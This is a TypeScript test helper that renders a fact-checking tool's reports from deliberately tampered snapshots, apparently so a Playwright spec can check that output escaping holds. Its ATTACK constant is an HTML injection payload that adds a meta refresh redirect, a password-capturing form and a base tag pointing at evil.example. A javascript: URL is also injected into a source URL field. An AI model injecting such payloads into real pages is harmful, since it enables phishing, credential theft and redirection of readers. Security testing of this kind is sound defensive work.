/**
 * Builds the documents of report-hostile.spec.ts (run with tsx, which reads the
 * core's JSON imports that Playwright's loader cannot): prints
 * `[{ name, documents, refused }]` as JSON.
 */
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { HtmlRenderer, Parser } from 'commonmark';
// Reports are built here in every language the snapshots ask for, as the export does after loading every catalogue.
import '../../../src-renderer/core/i18n/bundled';
import { hostileSnapshot } from '../../core/report/geneva-snapshot';
import {
  buildClaimReview, buildHtmlReport, buildJsonReport, buildMarkdownReport, buildWebAnnotations,
  DEFAULT_REPORT_OPTIONS, type ReviewSnapshot,
} from '../../../src-renderer/core/report';

const here = path.dirname(fileURLToPath(import.meta.url));
const corpus = path.resolve(here, '../../hostile/corpus');
const ATTACK = '"><meta http-equiv="refresh" content="0;url=https://evil.example/"><form action="https://evil.example/"><input name="password"><base href="https://evil.example/">';

type Row = Record<string, unknown>;

/** The hostile snapshot with markup in the paragraph kinds, tags, ids and language too (a bad locale is core/report/html.test.ts's). */
function tampered(): ReviewSnapshot {
  const base = hostileSnapshot();
  const cast = <T>(value: string): T => value as unknown as T;
  return {
    ...base,
    article: { ...base.article, language: ATTACK, sourceUrl: `javascript:alert(1)//${ATTACK}` },
    revision: { ...base.revision, paragraphs: base.revision.paragraphs.map((p, i) => ({ ...p, kind: cast(i === 0 ? ATTACK : '__proto__') })) },
    claims: base.claims.map((c) => ({ ...c, id: ATTACK + c.id, tags: [ATTACK] })),
    evidence: base.evidence.map((e) => ({ ...e, claimId: ATTACK + e.claimId })),
    settings: { ...base.settings, publicationUrl: `https://example.org/${ATTACK}/{claim}` },
  };
}

/** Every article of a backup, as a snapshot, read without the schemas. */
function snapshotsOfBackup(file: string): ReviewSnapshot[] {
  const backup = JSON.parse(readFileSync(file, 'utf8')) as { payload: { data: { data: { tableName: string; rows: Row[] }[] } } };
  const table = (name: string): Row[] => backup.payload.data.data.find((t) => t.tableName === name)?.rows ?? [];
  const settings = new Map(table('settings').map((r) => [r['key'], r['value']]));
  return table('articles').map((article) => {
    const revisions = table('revisions').filter((r) => r['articleId'] === article['id']);
    const claims = table('claims').filter((c) => c['articleId'] === article['id']);
    const claimIds = new Set(claims.map((c) => c['id']));
    const evidence = table('evidence').filter((e) => claimIds.has(e['claimId']));
    return {
      schema: 'workbench-review/1',
      exportedAt: '2026-01-01T00:00:00.000Z',
      locale: 'en',
      article,
      revision: revisions.find((r) => r['id'] === article['currentRevisionId']) ?? revisions[0],
      revisions,
      claims,
      evidence,
      sources: table('sources'),
      flags: [],
      dismissed: [],
      settings: {
        reviewerName: String(settings.get('editorName') ?? ''),
        organisationName: String(settings.get('organisationName') ?? ''),
        organisationUrl: settings.get('organisationUrl'),
        verdicts: settings.get('verdicts') ?? [],
      },
    } as unknown as ReviewSnapshot;
  }).filter((s) => s.revision !== undefined);
}

function hostileSnapshots(): { name: string; snapshot: ReviewSnapshot }[] {
  const list = [
    { name: 'hostile snapshot', snapshot: hostileSnapshot() },
    { name: 'tampered enumerations', snapshot: tampered() },
  ];
  for (const file of readdirSync(corpus).sort()) {
    const full = path.join(corpus, file);
    if (file.endsWith('.review.json')) list.push({ name: file, snapshot: JSON.parse(readFileSync(full, 'utf8')) as ReviewSnapshot });
    if (file.endsWith('.backup.json')) {
      snapshotsOfBackup(full).forEach((snapshot, i) => list.push({ name: `${file} #${i + 1}`, snapshot }));
    }
  }
  return list;
}

export interface Document { readonly path: string; readonly contentType: string; readonly body: string }

/** Each format a builder can make of the snapshot, as a reader would open it; formats refused (thrown) are left out. */
function documentsOf(snapshot: ReviewSnapshot): { documents: Document[]; refused: string[] } {
  const documents: Document[] = [];
  const refused: string[] = [];
  const attempt = (format: string, build: () => Document): void => {
    try {
      documents.push(build());
    } catch (error) {
      refused.push(`${format}: ${String(error)}`);
    }
  };
  attempt('html', () => ({ path: '/report.html', contentType: 'text/html; charset=utf-8', body: buildHtmlReport(snapshot, DEFAULT_REPORT_OPTIONS) }));
  attempt('markdown', () => {
    const markdown = buildMarkdownReport(snapshot, DEFAULT_REPORT_OPTIONS);
    const rendered = new HtmlRenderer({ safe: false }).render(new Parser().parse(markdown));
    return { path: '/report-md.html', contentType: 'text/html; charset=utf-8', body: `<!DOCTYPE html><meta charset="utf-8"><body>${rendered}</body>` };
  });
  attempt('claimreview', () => ({
    path: '/claimreview.html',
    contentType: 'text/html; charset=utf-8',
    body: `<!DOCTYPE html><meta charset="utf-8"><script type="application/ld+json">${buildClaimReview(snapshot)}</script><p>published</p>`,
  }));
  attempt('json', () => ({ path: '/review.json', contentType: 'application/json', body: buildJsonReport(snapshot) }));
  attempt('web-annotation', () => ({ path: '/annotations.jsonld', contentType: 'application/ld+json', body: buildWebAnnotations(snapshot) }));
  return { documents, refused };
}


process.stdout.write(JSON.stringify(hostileSnapshots().map(({ name, snapshot }) => ({ name, ...documentsOf(snapshot) }))));
